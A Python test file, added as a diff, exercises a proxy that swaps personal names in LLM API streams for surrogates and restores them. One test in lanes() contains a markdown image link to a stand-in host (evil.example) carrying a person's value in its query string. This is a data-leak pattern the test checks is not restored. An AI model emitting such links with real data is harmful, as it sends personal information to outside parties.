@@ -1,0 +1,110 @@
+"""A fast selection of the laws, in one process without a test runner: it raises if one fails. Every mutant must make it raise."""
+
+import json
+
+from laws import machine, test_conversation, test_dialects, test_framing, test_restore, test_transforms
+from laws.machine import cuts, fed, lane, restorer
+
+from app.core.document import dump, parse
+from app.core.surrogate import Original, well_formed
+from app.engine.answer import Signed, restore_whole
+from app.engine.restore import JsonDepth
+
+
+def framing() -> None:
+    for case in test_framing.CASES:
+        test_framing.test_golden_events(case)
+        for end in test_framing.ENDS.values():
+            stream = case["stream"].encode().replace(b"\n", end)
+            test_framing.check(stream, three=len(stream) <= 30)
+    test_framing.test_an_event_goes_out_as_soon_as_its_blank_line_is_whole()
+    test_framing.test_a_flushed_decoder_is_empty()
+    test_framing.test_what_is_rendered_reads_back("a\nb", "x")
+    test_framing.test_an_event_without_end_is_refused()
+
+
+def lanes() -> None:
+    for cases, json_text in ((test_restore.BENT, False), (test_restore.ARGUMENTS | test_restore.BROKEN, True)):
+        for source, expected in cases.values():
+            for pieces in [*cuts(source, 2), list(source)]:
+                assert fed(lane(json=json_text), pieces) == expected
+    for source, expected in test_restore.ARGUMENTS.values():
+        assert lane(json=None).finish(source) == expected
+    test_restore.test_text_that_cannot_become_a_surrogate_is_not_delayed()
+    for size in range(1, len(machine.PERSON)):
+        test_restore.test_every_beginning_of_a_surrogate_is_held_and_only_that(machine.PERSON[:size])
+    test_restore.test_links_in_arguments_of_a_clients_tool_get_originals()
+    one = lane(sinks=True)
+    kept = f"![a](https://evil.example/?q={machine.PERSON})"
+    assert one.finish(f"{kept} {machine.PERSON} [m](mailto:{machine.PERSON})") == f"{kept} Maria Singh [m](mailto:Maria Singh)"
+    assert JsonDepth().advance('{"a": "{\\"b\\": \\"') == 2
+
+
+def streams() -> None:
+    for path in test_restore.golden():
+        dialect, upstream, caller = test_restore.read_golden(path)
+        assert machine.restored_stream(dialect, [upstream]) == caller
+    test_restore.test_interleaved_lanes_never_mix("openai", ("content", 0, 0), ("content", 1, 0))
+    test_restore.test_interleaved_lanes_never_mix("openai", ("arguments", 0, 0), ("arguments", 0, 1))
+    test_restore.test_tool_calls_without_a_number_are_told_apart_by_their_place()
+    test_restore.test_held_text_goes_out_before_done_even_if_nothing_said_that_the_lane_ends()
+    test_restore.test_an_empty_finish_reason_ends_nothing()
+    for dialect in machine.ENDPOINTS:
+        test_restore.test_with_nothing_issued_every_whole_event_passes_at_once_and_untouched(dialect)
+        test_restore.test_a_stream_that_breaks_gives_everything_back_before_our_own_error(dialect)
+        test_restore.test_a_stream_that_stops_short_flushes_in_readable_events(dialect, "data: {")
+    test_restore.test_an_event_without_its_blank_line_does_not_swallow_what_follows()
+    test_restore.test_thinking_goes_through_unrestored_and_is_remembered_whole()
+    test_restore.test_logprobs_of_rewritten_text_are_dropped_and_others_stay()
+    test_restore.test_custom_tool_input_is_free_text_not_json()
+    test_restore.test_the_gemini_shape_streams_by_the_same_machine()
+
+
+def conversations() -> None:
+    for dialect in machine.ENDPOINTS:
+        for template in test_conversation.TEXTS:
+            test_conversation.test_replay_of_text_whole_and_streamed(dialect, template)
+        for order in (test_conversation.KEYS, ("messages", "system", "tools", "model", "max_tokens")):
+            test_conversation.test_appending_turns_changes_nothing_before_them(dialect, order)
+    for template in test_conversation.ARGUMENTS:
+        test_conversation.test_replay_of_openai_arguments_is_verbatim(template)
+    test_conversation.test_replay_of_a_number_in_arguments()
+    test_conversation.test_a_value_that_stands_as_number_and_as_text_comes_back_as_text()
+    test_conversation.test_what_the_system_says_is_known_even_where_it_stands_last()
+    test_conversation.test_a_value_known_from_an_earlier_turn_is_found_where_no_detector_fires()
+    test_conversation.test_a_known_value_inside_a_longer_word_is_another_word()
+    test_conversation.test_a_value_split_over_neighbouring_parts_leaves_no_piece()
+    test_conversation.test_turns_are_not_neighbouring_parts()
+    test_conversation.test_a_surrogate_in_history_stays_and_its_original_is_known_from_there_on()
+
+
+def dialects() -> None:
+    for name, endpoint in machine.ENDPOINTS.items():
+        test_dialects.test_rewriting_with_the_identity_is_the_identical_document(endpoint)
+        test_dialects.test_a_rewritten_document_shares_what_did_not_change_and_leaves_the_first_as_it_was(endpoint)
+        test_dialects.test_every_leaf_has_its_kind(name)
+        test_dialects.test_nothing_sensitive_leaves_and_protect_then_restore_is_the_original(endpoint)
+        test_dialects.test_a_field_of_tomorrow_is_text_and_its_name_is_inspected(name)
+    test_dialects.test_a_selector_tells_objects_of_several_types_apart()
+    test_dialects.test_json_schema_recurs()
+    test_dialects.test_what_the_provider_runs_and_how_it_signs_is_left_alone_in_answers()
+    test_dialects.test_two_keys_that_would_become_one_are_refused()
+    test_transforms.test_distinct_values_get_distinct_surrogates_in_one_naming()
+    test_transforms.test_restore_never_keeps_the_surrogate_in_the_answer()
+
+
+def surrogates() -> None:
+    forged = "".join("0" if character == "1" else character for character in "PERSON_0000000001")
+    assert [forged, well_formed(forged)] == [forged, []]
+    body = json.dumps({"choices": [{"message": {"content": f"{machine.PERSON[:-1]}V PERSON_4K7Q2MY"}}]}).encode()
+    assert restore_whole(body, machine.ENDPOINTS["openai"], restorer(), Signed()) == body
+    assert dump(parse('{"a":1.10,"b":"\\ud800"}')) == b'{"a":1.10,"b":"\\ud800"}'
+    only = {"PERSON_4K7Q2MX8FT": Original("Maria")}
+    assert lane(values=only).finish("NOBODY_4K7Q2MX8FT PERSON_4K7Q2MX8FV") == "NOBODY_4K7Q2MX8FT PERSON_4K7Q2MX8FV"
+
+
+LAWS = (surrogates, dialects, framing, lanes, streams, conversations)
+
+if __name__ == "__main__":
+    for law in LAWS:
+        law()
